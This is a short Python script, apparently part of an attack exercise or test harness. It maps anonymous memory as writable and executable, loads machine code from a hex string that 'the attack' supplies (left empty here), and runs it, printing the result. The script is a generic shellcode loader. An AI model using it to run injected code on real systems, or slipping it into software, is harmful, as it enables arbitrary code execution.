# Runs machine code from anonymous memory mapped writable and executable; prints its result
# (42). The attack puts CODE, the instructions in hex, before this text.
import ctypes
import mmap

CODE = ""  # provided
m = mmap.mmap(
    -1,
    4096,
    mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS,
    mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC,
)
m.write(bytes.fromhex(CODE))
buf = ctypes.c_char.from_buffer(m)
print(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(buf))())
